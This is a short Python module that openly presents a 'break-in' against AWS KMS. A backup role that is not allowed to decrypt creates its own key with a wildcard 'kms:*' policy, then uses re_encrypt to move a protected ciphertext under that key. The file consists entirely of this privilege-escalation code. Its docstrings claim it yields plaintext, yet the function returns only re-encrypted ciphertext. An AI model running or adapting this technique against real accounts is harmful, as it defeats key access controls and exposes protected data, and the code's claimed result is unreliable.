"""key-policies/break-in: the plaintext, for a role that may not decrypt."""

import json

BACKUP = "arn:aws:iam::111122223333:role/backup"


def break_in(kms, key_id: str, ciphertext: bytes) -> bytes:
    """The plaintext, by way of a key of the role's own."""
    everything = {"Effect": "Allow", "Principal": {"AWS": BACKUP}, "Action": "kms:*", "Resource": "*"}
    policy = json.dumps({"Version": "2012-10-17", "Statement": [everything]})
    mine = kms.create_key(Policy=policy)["KeyMetadata"]["KeyId"]
    moved = kms.re_encrypt(CiphertextBlob=ciphertext, SourceKeyId=key_id, DestinationKeyId=mine)
    return moved["CiphertextBlob"]
